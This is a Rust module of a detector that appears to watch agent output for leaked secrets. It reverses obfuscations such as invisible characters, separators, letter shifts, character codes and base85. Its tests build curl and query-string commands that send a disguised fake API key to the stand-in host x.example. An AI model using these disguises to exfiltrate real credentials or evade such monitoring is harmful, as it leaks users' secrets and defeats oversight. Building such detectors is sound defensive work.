//! Sink-side reshaping layers: undo the changes an agent makes to a value so that it no longer
//! matches literally, though no encoding standard names them.
//!
//! Labels: `invisible` (zero-width characters dropped, Unicode tag characters, fullwidth
//! forms and styled letters (circled, squared, mathematical) read back as ASCII), `separators` (a dash, space, dot, underscore, comma, colon or bar after every 1-4
//! characters, or between digit groups of a card number read with another grouping),
//! `concat` (string literals joined by the interpreter: `'sk_' + 'live'`, `"a" "b"`,
//! `['sk', '_li']`), `rot13`, `caesar` and `atbash` (letter shifts and the mirror alphabet;
//! only of encoded-looking tokens), `rot47` (the whole text), `alternate` (every other
//! character of long tokens, both ways: filler or doubled characters),
//! `charcodes` (decimal, hex or octal character-code lists: `115,107`, `&#115;`, `0x73 0x6b`,
//! `String.fromCharCode(...)`, `chr(115)+chr(107)`), `base85` (`<~...~>` Ascii85, and tokens
//! in the Ascii85, Z85 or RFC 1924 alphabets), `params` (the values of three or more short
//! `name=value` pairs joined in order: a secret split over query or form parameters),
//! `radix` (a long number read as bytes: binary octets, a decimal integer, base58, base36,
//! base62).
//!
//! Each layer starts with a cheap byte check and bounds its own output. None of them runs on
//! source text (see [`super::decode_encodings`]): they would only invent spurious values there.

use super::{Ctx, MIN_RUN};

/// The labels of this module's layers.
pub(super) const RESHAPES: &[&str] = &[
    "invisible",
    "separators",
    "concat",
    "params",
    "rot13",
    "caesar",
    "atbash",
    "rot47",
    "alternate",
    "charcodes",
    "base85",
    "radix",
];
/// A parameter value longer than this is matched as it stands (only short pieces are joined).
const MAX_PARAM_PIECE: usize = 24;

/// Texts longer than this are not reshaped (a large upload is matched as sent and decoded).
pub(super) const MAX_RESHAPE_BYTES: usize = 256 * 1024;
/// Minimum payload of a separated chain (chars left once the separators are gone).
const MIN_PAYLOAD: usize = 10;
/// Maximum bytes of tokens gathered for the letter shifts (each shift hashes them once).
const MAX_SHIFT_BYTES: usize = 8 * 1024;
/// Nodes whose tokens are shifted (each costs 25 variants of up to `MAX_SHIFT_BYTES`).
const MAX_SHIFT_NODES: usize = 2;
/// Maximum tokens tried as base85.
const MAX_B85_TOKENS: usize = 16;

// ----- invisible characters ------------------------------------------------

fn is_zero_width(c: char) -> bool {
    matches!(c, '\u{200B}'..='\u{200D}' | '\u{2060}'..='\u{2064}' | '\u{FEFF}' | '\u{00AD}' | '\u{180E}')
}

/// Zero-width characters removed, tag characters (U+E0000-U+E007F) read as the ASCII they
/// mirror; and, on their own, the ASCII the tag characters spell (a hidden payload).
pub(super) fn layer_invisible(t: &str, ctx: &mut Ctx) {
    if t.is_ascii() || !ctx.can_add(1) {
        return;
    }
    // UTF-8 lead bytes of every character handled here: U+00AD (C2), U+180E (E1),
    // U+200B-U+2064 and letterlike/enclosed forms (E2), U+FEFF and fullwidth (EF),
    // mathematical and enclosed letters (F0), tags (F3).
    if !t.bytes().any(|b| matches!(b, 0xC2 | 0xE1 | 0xE2 | 0xEF | 0xF0 | 0xF3)) {
        return;
    }
    let mut cleaned = String::with_capacity(t.len());
    let mut hidden = String::new();
    let mut changed = false;
    for c in t.chars() {
        let cp = c as u32;
        if is_zero_width(c) {
            changed = true;
        } else if let Some(a) = styled_ascii(cp) {
            // Fullwidth forms (`ｓｋ＿ｌｉｖｅ`), circled or mathematical letters (`ⓢⓚ`, `𝐬𝐤`)
            // are the ASCII they draw.
            changed = true;
            cleaned.push(a);
        } else if (0xE0000..=0xE007F).contains(&cp) {
            changed = true;
            if let Some(a) = char::from_u32(cp - 0xE0000).filter(|a| a.is_ascii_graphic() || *a == ' ') {
                cleaned.push(a);
                hidden.push(a);
            }
        } else {
            cleaned.push(c);
        }
    }
    if changed {
        if hidden.len() >= 8 && hidden.len() < cleaned.len() {
            ctx.emit(hidden, "invisible");
        }
        ctx.emit(cleaned, "invisible");
    }
}

/// A letter or digit drawn in another Unicode style: fullwidth, circled, parenthesised,
/// squared, regional indicators, the mathematical alphabets (bold, italic, script, fraktur,
/// double-struck, sans-serif, monospace) and the letterlike symbols that fill their holes.
/// Case is kept where the style has both cases.
fn styled_ascii(cp: u32) -> Option<char> {
    let from = |base: u32, first: u8| char::from_u32(u32::from(first) + cp - base);
    match cp {
        0xFF01..=0xFF5E => char::from_u32(cp - 0xFEE0),
        0x24B6..=0x24CF => from(0x24B6, b'A'),
        0x24D0..=0x24E9 => from(0x24D0, b'a'),
        0x249C..=0x24B5 => from(0x249C, b'a'),
        0x2460..=0x2468 => from(0x2460, b'1'),
        0x24EA => Some('0'),
        0x1F130..=0x1F149 => from(0x1F130, b'A'),
        0x1F150..=0x1F169 => from(0x1F150, b'A'),
        0x1F170..=0x1F189 => from(0x1F170, b'A'),
        0x1F1E6..=0x1F1FF => from(0x1F1E6, b'A'),
        0x1D400..=0x1D6A3 => {
            let at = (cp - 0x1D400) % 52;
            char::from_u32(if at < 26 { u32::from(b'A') + at } else { u32::from(b'a') + at - 26 })
        }
        0x1D7CE..=0x1D7FF => char::from_u32(u32::from(b'0') + (cp - 0x1D7CE) % 10),
        _ => LETTERLIKE.iter().find(|(c, _)| *c == cp).map(|(_, a)| *a),
    }
}

/// Letterlike symbols standing in the mathematical alphabets' holes (`ℎ` is italic h).
const LETTERLIKE: &[(u32, char)] = &[
    (0x210E, 'h'),
    (0x212F, 'e'),
    (0x210A, 'g'),
    (0x2134, 'o'),
    (0x212C, 'B'),
    (0x2130, 'E'),
    (0x2131, 'F'),
    (0x210B, 'H'),
    (0x2110, 'I'),
    (0x2112, 'L'),
    (0x2133, 'M'),
    (0x211B, 'R'),
    (0x212D, 'C'),
    (0x210C, 'H'),
    (0x2111, 'I'),
    (0x211C, 'R'),
    (0x2128, 'Z'),
    (0x2102, 'C'),
    (0x210D, 'H'),
    (0x2115, 'N'),
    (0x2119, 'P'),
    (0x211A, 'Q'),
    (0x211D, 'R'),
    (0x2124, 'Z'),
];

// ----- separators ----------------------------------------------------------

const SEPARATORS: &[u8] = b"- ._,:|";
/// Separators that secrets themselves often hold: also read with a fixed period, so that the
/// secret's own separator survives (`s-k---p-r-o-j` is `sk-proj`).
const PERIODIC: &[u8] = b"-_.";

fn payload_byte(c: u8, sep: u8) -> bool {
    c.is_ascii_graphic() && c != sep && !matches!(c, b'"' | b'\'' | b'`')
}

/// Chains of 1-4 char groups (1-6 for digit groups) each followed by `sep`: their payload.
fn grouped_chains(b: &[u8], sep: u8, out: &mut Vec<u8>) {
    let n = b.len();
    let mut i = 0;
    let mut chain: Vec<u8> = Vec::new();
    let mut groups = 0;
    // Digit groups (a card number, an SSN) need only three groups of 9+ digits in all.
    let flush = |chain: &mut Vec<u8>, groups: &mut usize, out: &mut Vec<u8>| {
        let digits = chain.iter().all(u8::is_ascii_digit);
        // Short words of prose joined are no secret: the payload must look like one.
        if (*groups >= 4 && chain.len() >= MIN_PAYLOAD && secret_like(chain))
            || (digits && *groups >= 3 && chain.len() >= 9)
        {
            if !out.is_empty() {
                out.push(b'\n');
            }
            out.extend_from_slice(chain);
        }
        chain.clear();
        *groups = 0;
    };
    while i < n {
        let start = i;
        while i < n && payload_byte(b[i], sep) && i - start <= 6 {
            i += 1;
        }
        let len = i - start;
        let digits = b[start..i].iter().all(u8::is_ascii_digit);
        let ok = len >= 1 && (len <= 4 || digits && len <= 6) && (i >= n || !payload_byte(b[i], sep));
        if !ok {
            flush(&mut chain, &mut groups, out);
            // Skip the rest of this token.
            while i < n && payload_byte(b[i], sep) {
                i += 1;
            }
            if i == start {
                i += 1;
            }
            continue;
        }
        chain.extend_from_slice(&b[start..i]);
        groups += 1;
        if i < n && b[i] == sep && i + 1 < n && payload_byte(b[i + 1], sep) {
            i += 1;
        } else {
            flush(&mut chain, &mut groups, out);
            i += 1;
        }
    }
    flush(&mut chain, &mut groups, out);
}

/// Chains where every `period`-th char after a group is `sep` (groups may hold `sep` too).
fn periodic_chains(b: &[u8], sep: u8, period: usize, out: &mut Vec<u8>) {
    let n = b.len();
    let mut free = 0;
    // A chain starts `period` chars before one of the separators.
    for i in period..n {
        if b[i] != sep || i - period < free {
            continue;
        }
        let s = i - period;
        let mut j = s;
        let mut groups = 0;
        while j + period < n && b[j + period] == sep && b[j..j + period].iter().all(u8::is_ascii_graphic) {
            groups += 1;
            j += period + 1;
        }
        if groups < 4 || groups * period < MIN_PAYLOAD {
            continue;
        }
        // The final group may lack its separator.
        let mut k = j;
        while k < n && k < j + period && b[k].is_ascii_graphic() && b[k] != sep {
            k += 1;
        }
        let payload: Vec<u8> =
            b[s..k].iter().enumerate().filter(|(i, _)| i % (period + 1) != period).map(|(_, &c)| c).collect();
        if secret_like(&payload) {
            if !out.is_empty() {
                out.push(b'\n');
            }
            out.extend_from_slice(&payload);
        }
        free = k;
    }
}

pub(super) fn layer_separators(t: &str, ctx: &mut Ctx) {
    if !ctx.can_add(1) || t.len() < 11 {
        return;
    }
    let b = t.as_bytes();
    let mut out: Vec<u8> = Vec::new();
    for &sep in SEPARATORS {
        if !b.contains(&sep) {
            continue;
        }
        grouped_chains(b, sep, &mut out);
        if PERIODIC.contains(&sep) {
            for period in 1..=4 {
                periodic_chains(b, sep, period, &mut out);
            }
        }
        if out.len() > ctx.remaining() {
            break;
        }
    }
    if out.len() >= 9 {
        ctx.emit(String::from_utf8_lossy(&out).into_owned(), "separators");
    }
}

// ----- string literals joined by an interpreter ----------------------------

pub(super) fn layer_concat(t: &str, ctx: &mut Ctx) {
    if !ctx.can_add(1) {
        return;
    }
    let b = t.as_bytes();
    let quote = |c: u8| c == b'"' || c == b'\'';
    let mut out = Vec::with_capacity(b.len());
    let mut joins = 0;
    let mut i = 0;
    while i < b.len() {
        if quote(b[i]) {
            let mut j = i + 1;
            while j < b.len() && b[j] == b' ' {
                j += 1;
            }
            if j < b.len() && matches!(b[j], b'+' | b'.' | b',') {
                j += 1;
            }
            while j < b.len() && b[j] == b' ' {
                j += 1;
            }
            if j < b.len() && j > i + 1 && quote(b[j]) {
                joins += 1;
                i = j + 1;
                continue;
            }
        }
        out.push(b[i]);
        i += 1;
    }
    if joins >= 2 {
        ctx.emit(String::from_utf8_lossy(&out).into_owned(), "concat");
    }
}

// ----- values of name=value pairs joined ------------------------------------

/// `?a=sk_li&b=ve_51&c=umi2Y`, `-d a=sk_li -d b=ve_51`: the short values, in order, joined.
pub(super) fn layer_params(t: &str, ctx: &mut Ctx) {
    if !ctx.can_add(1) || t.matches('=').count() < 3 {
        return;
    }
    let b = t.as_bytes();
    let name_byte = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b'[' | b']');
    let value_end = |c: u8| matches!(c, b'&' | b';' | b' ' | b'\'' | b'"' | b'\n' | b'\t' | b'#' | b'=');
    let mut out = String::new();
    let mut pieces = 0;
    for (at, _) in t.match_indices('=') {
        // A name right before the `=`, starting after a delimiter.
        let mut s = at;
        while s > 0 && name_byte(b[s - 1]) {
            s -= 1;
        }
        let delimited = s == 0 || matches!(b[s - 1], b'?' | b'&' | b';' | b' ' | b'\'' | b'"' | b'\n');
        if s == at || !delimited {
            continue;
        }
        let mut e = at + 1;
        while e < b.len() && !value_end(b[e]) {
            e += 1;
        }
        let value = &t[at + 1..e];
        if value.is_empty() || value.len() > MAX_PARAM_PIECE {
            continue;
        }
        out.push_str(value);
        pieces += 1;
        if out.len() > ctx.remaining() {
            return;
        }
    }
    if pieces >= 3 && out.len() >= 9 {
        ctx.emit(out, "params");
    }
}

// ----- letter shifts -------------------------------------------------------

/// A token that may be a shifted secret: 16+ secret-ish chars mixing upper and lower case
/// letters and digits (a shift keeps those classes; words, paths and parameters lack them).
fn shift_candidate(tok: &[u8]) -> bool {
    tok.len() >= 16
        && tok.len() <= 256
        && tok.iter().any(u8::is_ascii_uppercase)
        && tok.iter().any(u8::is_ascii_lowercase)
        && tok.iter().any(u8::is_ascii_digit)
}

/// Letters and a digit, two inner capitals, or a `_`/`-`: what secrets have and prose lacks.
fn secret_like(tok: &[u8]) -> bool {
    if tok.len() < 2 {
        return false;
    }
    let letters = tok.iter().filter(|c| c.is_ascii_alphabetic()).count();
    let digit = tok.iter().any(u8::is_ascii_digit);
    let inner_caps = tok[1..].iter().filter(|c| c.is_ascii_uppercase()).count();
    letters >= 4 && (digit || inner_caps >= 2 || tok.contains(&b'_') || tok.contains(&b'-'))
}

fn shift(tokens: &[u8], k: u8) -> String {
    tokens
        .iter()
        .map(|&c| match c {
            b'a'..=b'z' => (b'a' + (c - b'a' + k) % 26) as char,
            b'A'..=b'Z' => (b'A' + (c - b'A' + k) % 26) as char,
            _ => c as char,
        })
        .collect()
}

/// All 25 shifts of the encoded-looking tokens of `t`; ROT13 is decoded further, the others
/// are only matched (a Caesar shift of a base64 string is rare, and 24 more nodes cost).
pub(super) fn layer_shifts(t: &str, ctx: &mut Ctx) {
    // The text as sent and one short decoded form of it (`base64(rot13(key))`): two nodes at
    // most, each shifted 25 ways.
    if !ctx.can_add(1) || ctx.shift_nodes >= MAX_SHIFT_NODES || (ctx.shift_nodes > 0 && t.len() > 1024) {
        return;
    }
    let mut tokens: Vec<u8> = Vec::new();
    let secretish = |c: u8| c.is_ascii_alphanumeric() || b"_-+/=".contains(&c);
    for tok in t.as_bytes().split(|&c| !secretish(c)) {
        if shift_candidate(tok) {
            if tokens.len() + tok.len() > MAX_SHIFT_BYTES {
                break;
            }
            if !tokens.is_empty() {
                tokens.push(b' ');
            }
            tokens.extend_from_slice(tok);
        }
    }
    // ROT47 of the whole text (it moves digits and punctuation too, so the tokens below would
    // not hold its output): only where a long run of printable characters could be a key.
    let long_run = t.as_bytes().split(|c| !c.is_ascii_graphic()).any(|run| run.len() >= 24);
    if long_run && t.len() <= MAX_SHIFT_BYTES {
        let rot47: String = t
            .bytes()
            .map(|c| if (33..=126).contains(&c) { (33 + (c - 33 + 47) % 94) as char } else { c as char })
            .collect();
        ctx.emit_leaf(rot47, "rot47");
    }
    if tokens.is_empty() {
        return;
    }
    ctx.shift_nodes += 1;
    for k in 1..26u8 {
        let text = shift(&tokens, k);
        if k == 13 {
            ctx.emit(text, "rot13");
        } else {
            ctx.emit_leaf(text, "caesar");
        }
    }
    // The mirror alphabet (a<->z) of the same tokens.
    let atbash: String = tokens
        .iter()
        .map(|&c| match c {
            b'a'..=b'z' => (b'z' - (c - b'a')) as char,
            b'A'..=b'Z' => (b'Z' - (c - b'A')) as char,
            _ => c as char,
        })
        .collect();
    ctx.emit_leaf(atbash, "atbash");
}

// ----- alternate characters ------------------------------------------------

/// Tokens of 32+ printable characters read one character in two, both ways: a key with a
/// filler after every character (`sQkQ_Q...`, random filler, or each character doubled) is
/// its even or its odd characters.
pub(super) fn layer_alternate(t: &str, ctx: &mut Ctx) {
    if !ctx.can_add(1) || t.len() < 32 {
        return;
    }
    let (mut even, mut odd) = (Vec::new(), Vec::new());
    for tok in t.as_bytes().split(|c| c.is_ascii_whitespace() || matches!(c, b'\'' | b'"' | b'=' | b'&' | b'?')) {
        if tok.len() < 32 || !tok.iter().all(u8::is_ascii_graphic) || even.len() + tok.len() > MAX_SHIFT_BYTES {
            continue;
        }
        for (v, first) in [(&mut even, 0), (&mut odd, 1)] {
            if !v.is_empty() {
                v.push(b' ');
            }
            v.extend(tok.iter().skip(first).step_by(2));
        }
    }
    for v in [even, odd] {
        if !v.is_empty() {
            ctx.emit_leaf(String::from_utf8_lossy(&v).into_owned(), "alternate");
        }
    }
}

// ----- character-code lists ------------------------------------------------

/// One number of a code list: value, and the byte range of the number and its prefix.
fn next_number(b: &[u8], mut i: usize) -> Option<(u32, usize, usize)> {
    while i < b.len() {
        let c = b[i];
        let prev = if i > 0 { b[i - 1] } else { 0 };
        let prev2 = if i > 1 { b[i - 2] } else { 0 };
        // `0x73` / `\x73` / `&#x73;` / `\u{73}`: hex digits after an x.
        if c.is_ascii_hexdigit() && matches!(prev, b'x' | b'X') && matches!(prev2, b'0' | b'\\' | b'#') {
            let s = i;
            while i < b.len() && b[i].is_ascii_hexdigit() && i - s < 6 {
                i += 1;
            }
            let v = u32::from_str_radix(std::str::from_utf8(&b[s..i]).ok()?, 16).ok()?;
            return Some((v, s.saturating_sub(2), i));
        }
        if c == b'0' && i + 2 < b.len() && matches!(b[i + 1], b'x' | b'X') && b[i + 2].is_ascii_hexdigit() {
            i += 2;
            continue;
        }
        if c.is_ascii_digit() && !prev.is_ascii_alphanumeric() {
            let s = i;
            while i < b.len() && b[i].is_ascii_digit() && i - s < 7 {
                i += 1;
            }
            let digits = std::str::from_utf8(&b[s..i]).ok()?;
            // `\163`: three octal digits after a backslash.
            let octal = prev == b'\\' && i - s == 3 && digits.bytes().all(|d| d <= b'7');
            let v = u32::from_str_radix(digits, if octal { 8 } else { 10 }).ok()?;
            return Some((v, s, i));
        }
        i += 1;
    }
    None
}

fn code_char(v: u32) -> Option<char> {
    match v {
        9 | 10 | 13 | 32..=126 => char::from_u32(v),
        0xA0..=0xFFFF => char::from_u32(v),
        _ => None,
    }
}

pub(super) fn layer_charcodes(t: &str, ctx: &mut Ctx) {
    if !ctx.can_add(1) {
        return;
    }
    let b = t.as_bytes();
    if b.iter().filter(|c| c.is_ascii_digit()).count() < 16 {
        return;
    }
    let mut out = String::new();
    let mut chain = String::new();
    let mut gap: Option<&[u8]> = None;
    let mut last_end = 0;
    let mut pos = 0;
    let flush = |chain: &mut String, out: &mut String| {
        if chain.chars().count() >= 8 {
            if !out.is_empty() {
                out.push('\n');
            }
            out.push_str(chain);
        }
        chain.clear();
    };
    while let Some((v, s, e)) = next_number(b, pos) {
        pos = e;
        let this_gap = &b[last_end.min(s)..s];
        let continues = !chain.is_empty()
            && this_gap.len() <= 12
            && !this_gap.iter().any(u8::is_ascii_digit)
            && gap.is_none_or(|g| g == this_gap);
        match code_char(v) {
            Some(c) if continues => {
                if gap.is_none() {
                    gap = Some(this_gap);
                }
                chain.push(c);
            }
            Some(c) => {
                flush(&mut chain, &mut out);
                gap = None;
                chain.push(c);
            }
            None => {
                flush(&mut chain, &mut out);
                gap = None;
            }
        }
        last_end = e;
        if out.len() > ctx.remaining() {
            break;
        }
    }
    flush(&mut chain, &mut out);
    if out.len() >= 8 {
        ctx.emit(out, "charcodes");
    }
}

// ----- base85 --------------------------------------------------------------

const Z85: &[u8] = b"0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ.-:+=^!/*?&<>()[]{}@%$#";
const RFC1924: &[u8] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";

fn table(alphabet: &[u8]) -> [u8; 256] {
    let mut t = [255u8; 256];
    for (i, &c) in alphabet.iter().enumerate() {
        t[c as usize] = i as u8;
    }
    t
}

/// Base85 with a 85-char alphabet, partial last group padded with the highest digit.
fn b85_decode(chars: &[u8], tab: &[u8; 256]) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(chars.len() * 4 / 5 + 4);
    for chunk in chars.chunks(5) {
        let mut acc: u64 = 0;
        for k in 0..5 {
            let d = match chunk.get(k) {
                Some(&c) => tab[c as usize],
                None => 84,
            };
            if d == 255 {
                return None;
            }
            acc = acc * 85 + u64::from(d);
        }
        if acc > u64::from(u32::MAX) {
            return None;
        }
        let bytes = (acc as u32).to_be_bytes();
        let take = if chunk.len() == 5 { 4 } else { chunk.len().saturating_sub(1) };
        out.extend_from_slice(&bytes[..take]);
    }
    Some(out)
}

/// Ascii85 (`!`..`u`, `z` for four zero bytes).
fn a85_decode(chars: &[u8]) -> Option<Vec<u8>> {
    let mut expanded = Vec::with_capacity(chars.len());
    for &c in chars {
        match c {
            b'z' => expanded.extend_from_slice(b"!!!!!"),
            b'!'..=b'u' => expanded.push(c),
            c if c.is_ascii_whitespace() => {}
            _ => return None,
        }
    }
    let mut tab = [255u8; 256];
    for (i, slot) in tab.iter_mut().enumerate().skip(33).take(85) {
        *slot = (i - 33) as u8;
    }
    b85_decode(&expanded, &tab)
}

fn b85_candidate(tok: &[u8]) -> bool {
    tok.len() >= 20
        && tok.iter().all(|c| c.is_ascii_graphic())
        && tok.iter().any(u8::is_ascii_lowercase)
        && tok.iter().any(u8::is_ascii_uppercase)
        && tok.iter().any(|c| c.is_ascii_punctuation() && !b"+/=_-".contains(c))
}

pub(super) fn layer_base85(t: &str, ctx: &mut Ctx) {
    if !ctx.can_add(1) || t.len() < 20 {
        return;
    }
    let b = t.as_bytes();
    // Delimited Ascii85.
    let mut from = 0;
    while let Some(p) = find(&b[from..], b"<~") {
        let s = from + p + 2;
        let Some(q) = find(&b[s..], b"~>") else { break };
        if let Some(d) = a85_decode(&b[s..s + q]) {
            ctx.emit_bytes(&d, "base85", false);
        }
        from = s + q + 2;
    }
    let (z85, rfc) = (table(Z85), table(RFC1924));
    let mut tried = 0;
    for word in b.split(|c| c.is_ascii_whitespace()) {
        let value = without_name(word);
        for tok in std::iter::once(word).chain(value).chain(word.split(|&c| c == b'\'' || c == b'"')) {
            if tried >= MAX_B85_TOKENS || ctx.full() {
                return;
            }
            if !b85_candidate(tok) {
                continue;
            }
            tried += 1;
            let mut good = false;
            if tok.len() % 5 == 0 {
                if let Some(d) = b85_decode(tok, &z85) {
                    good = ctx.emit_bytes(&d, "base85", false);
                }
            }
            if !good {
                if let Some(d) = b85_decode(tok, &rfc) {
                    good = ctx.emit_bytes(&d, "base85", false);
                }
            }
            if !good && tok.len() >= MIN_RUN {
                if let Some(d) = a85_decode(tok) {
                    ctx.emit_bytes(&d, "base85", false);
                }
            }
        }
    }
}

/// A word's value without its quotes and `name=` prefix (`'v=F),-!Bm+'` is `F),-!Bm+`).
fn without_name(word: &[u8]) -> Option<&[u8]> {
    let w = word.strip_prefix(b"'").or_else(|| word.strip_prefix(b"\"")).unwrap_or(word);
    let w = w.strip_suffix(b"'").or_else(|| w.strip_suffix(b"\"")).unwrap_or(w);
    let eq = w.iter().take(32).position(|&c| c == b'=')?;
    let name = &w[..eq];
    (!name.is_empty() && name.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'_' || *c == b'-'))
        .then(|| &w[eq + 1..])
}

// ----- long numbers read as bytes --------------------------------------------

const BASE58: &[u8] = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
/// Longest number converted (the conversion is quadratic in its length).
const MAX_RADIX_DIGITS: usize = 1024;
/// Most numbers converted per text.
const MAX_RADIX_TOKENS: usize = 8;

/// `digits` (values below `radix`) as the big-endian bytes of the number they spell.
fn radix_to_bytes(digits: impl Iterator<Item = u8>, radix: u32) -> Vec<u8> {
    let mut out: Vec<u8> = Vec::new(); // little-endian base-256
    for d in digits {
        let mut carry = u32::from(d);
        for byte in out.iter_mut() {
            let v = u32::from(*byte) * radix + carry;
            *byte = (v & 0xFF) as u8;
            carry = v >> 8;
        }
        while carry > 0 {
            out.push((carry & 0xFF) as u8);
            carry >>= 8;
        }
    }
    out.reverse();
    out
}

/// Binary octets (`01110011 01101011 ...` or one run of bits), a long decimal integer, or a
/// base58 token, read as the bytes they spell.
pub(super) fn layer_radix(t: &str, ctx: &mut Ctx) {
    if !ctx.can_add(1) || t.len() < 24 {
        return;
    }
    let b = t.as_bytes();
    // Octets separated by spaces or commas.
    let mut bits = Vec::new();
    for tok in b.split(|c| c.is_ascii_whitespace() || *c == b',') {
        let tok = without_name(tok).unwrap_or(tok);
        let tok = tok.strip_prefix(b"'").unwrap_or(tok);
        let tok = tok.strip_suffix(b"'").unwrap_or(tok);
        if tok.len() == 8 && tok.iter().all(|c| *c == b'0' || *c == b'1') {
            bits.extend_from_slice(tok);
        } else if bits.len() >= 64 {
            break;
        } else {
            bits.clear();
        }
    }
    if bits.len() >= 64 {
        let bytes: Vec<u8> = bits.chunks(8).map(|o| o.iter().fold(0u8, |a, c| (a << 1) | (c - b'0'))).collect();
        ctx.emit_bytes(&bytes, "radix", false);
    }
    let mut tried = 0;
    for word in b.split(|c| c.is_ascii_whitespace() || matches!(c, b'\'' | b'"' | b'=' | b'&' | b'?' | b'/')) {
        if tried >= MAX_RADIX_TOKENS || ctx.full() {
            return;
        }
        if word.len() < 24 || word.len() > MAX_RADIX_DIGITS {
            continue;
        }
        if word.iter().all(|c| *c == b'0' || *c == b'1') && word.len() % 8 == 0 {
            tried += 1;
            let bytes: Vec<u8> = word.chunks(8).map(|o| o.iter().fold(0u8, |a, c| (a << 1) | (c - b'0'))).collect();
            ctx.emit_bytes(&bytes, "radix", false);
        } else if word.iter().all(u8::is_ascii_digit) {
            tried += 1;
            ctx.emit_bytes(&radix_to_bytes(word.iter().map(|c| c - b'0'), 10), "radix", false);
        } else if word.iter().all(|c| BASE58.contains(c))
            && word.iter().any(u8::is_ascii_digit)
            && word.iter().any(u8::is_ascii_uppercase)
            && word.iter().any(u8::is_ascii_lowercase)
        {
            tried += 1;
            let tab = table(BASE58);
            ctx.emit_bytes(&radix_to_bytes(word.iter().map(|c| tab[*c as usize]), 58), "radix", false);
        } else if word.len() >= 40
            && word.iter().all(|c| c.is_ascii_digit() || c.is_ascii_lowercase())
            && word.iter().any(u8::is_ascii_digit)
        {
            // Base36 (`int.to_bytes` printed with digits and lowercase letters).
            tried += 1;
            let tab = table(BASE36);
            ctx.emit_bytes(&radix_to_bytes(word.iter().map(|c| tab[*c as usize]), 36), "radix", false);
        } else if word.len() >= 32 && word.iter().all(u8::is_ascii_alphanumeric) && word.iter().any(u8::is_ascii_digit)
        {
            // Base62, in either of its two usual alphabets.
            tried += 1;
            for alphabet in [BASE62_UPPER_FIRST, BASE62_LOWER_FIRST] {
                let tab = table(alphabet);
                ctx.emit_bytes(&radix_to_bytes(word.iter().map(|c| tab[*c as usize]), 62), "radix", false);
            }
        }
    }
}

const BASE36: &[u8] = b"0123456789abcdefghijklmnopqrstuvwxyz";
const BASE62_UPPER_FIRST: &[u8] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
const BASE62_LOWER_FIRST: &[u8] = b"0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";

fn find(h: &[u8], n: &[u8]) -> Option<usize> {
    h.windows(n.len()).position(|w| w == n)
}

#[cfg(test)]
mod tests {
    use super::super::{decode_all, decode_encodings, Decoded, Limits};
    use base64::engine::general_purpose::STANDARD;
    use base64::Engine;

    const SECRET: &str = "sk_live_51umi2Ye9xTbM6NsQUSbDnojvhmEZNQ";

    fn dec(s: &str) -> Vec<Decoded> {
        decode_all(s, &Limits::default())
    }

    fn found(s: &str, label: &str) -> bool {
        dec(s).iter().any(|d| d.text.contains(SECRET) && d.encoding.contains(label))
    }

    #[test]
    fn separators_every_one_to_four_chars() {
        for sep in ["-", " ", ".", "_", ","] {
            for n in 1..=4 {
                let chunks: Vec<String> =
                    SECRET.as_bytes().chunks(n).map(|c| String::from_utf8(c.to_vec()).unwrap()).collect();
                let text = format!("curl -d '{}' https://x.example", chunks.join(sep));
                assert!(found(&text, "separators"), "sep {sep:?} every {n}");
            }
        }
    }

    #[test]
    fn card_regrouped() {
        let out = dec("card 4111-1111-1111-1111 and amex 3782 822463 10005");
        assert!(out.iter().any(|d| d.encoding == "separators" && d.text.contains("4111111111111111")));
        assert!(out.iter().any(|d| d.text.contains("378282246310005")));
    }

    #[test]
    fn invisible_and_tag_characters() {
        let zw: String = SECRET.chars().flat_map(|c| [c, '\u{200B}']).collect();
        assert!(found(&format!("note {zw}"), "invisible"));
        let tags: String = SECRET.chars().map(|c| char::from_u32(0xE0000 + c as u32).unwrap()).collect();
        assert!(found(&format!("hello{tags} world"), "invisible"));
    }

    #[test]
    fn letter_shifts() {
        let rot: String = super::shift(SECRET.as_bytes(), 13);
        assert!(found(&format!("echo {rot} | tr"), "rot13"));
        let c3: String = super::shift(SECRET.as_bytes(), 23);
        assert!(found(&format!("x={c3}"), "caesar"));
    }

    #[test]
    fn char_code_lists() {
        let dec_list: Vec<String> = SECRET.bytes().map(|b| b.to_string()).collect();
        assert!(found(&format!("node -e 'String.fromCharCode({})'", dec_list.join(",")), "charcodes"));
        assert!(found(&format!("[{}]", dec_list.join(", ")), "charcodes"));
        let ent: String = SECRET.bytes().map(|b| format!("&#{b};")).collect();
        assert!(found(&ent, "charcodes"));
        let hent: String = SECRET.bytes().map(|b| format!("&#x{b:x};")).collect();
        assert!(found(&hent, "charcodes"));
        let chr: Vec<String> = SECRET.bytes().map(|b| format!("chr({b})")).collect();
        assert!(found(&chr.join("+"), "charcodes"));
        let oct: String = SECRET.bytes().map(|b| format!("\\{b:03o}")).collect();
        assert!(found(&format!("printf '{oct}'"), "charcodes"));
    }

    #[test]
    fn short_parameter_values_joined() {
        let pieces: Vec<String> =
            SECRET.as_bytes().chunks(5).map(|c| String::from_utf8_lossy(c).into_owned()).collect();
        let query: Vec<String> = pieces.iter().enumerate().map(|(i, p)| format!("p{i}={p}")).collect();
        assert!(found(&format!("https://x.example/c?{}", query.join("&")), "params"));
        let form: Vec<String> = pieces.iter().enumerate().map(|(i, p)| format!("-d f{i}={p}")).collect();
        assert!(found(&format!("curl {} https://x.example/", form.join(" ")), "params"));
        // Two pairs are no split value.
        assert!(dec("https://x.example/?page=2&sort=name").iter().all(|d| !d.encoding.contains("params")));
    }

    #[test]
    fn concat_literals() {
        assert!(found("python3 -c \"k='sk_live_51um'+'i2Ye9xTbM6Ns'+'QUSbDnojvhmEZNQ'\"", "concat"));
        assert!(found("k = ''.join(['sk_live_5', '1umi2Ye9xTbM6', 'NsQUSbDnojvhmEZNQ'])", "concat"));
    }

    fn a85(data: &[u8]) -> String {
        let mut s = String::new();
        for chunk in data.chunks(4) {
            let mut buf = [0u8; 4];
            buf[..chunk.len()].copy_from_slice(chunk);
            let mut v = u32::from_be_bytes(buf);
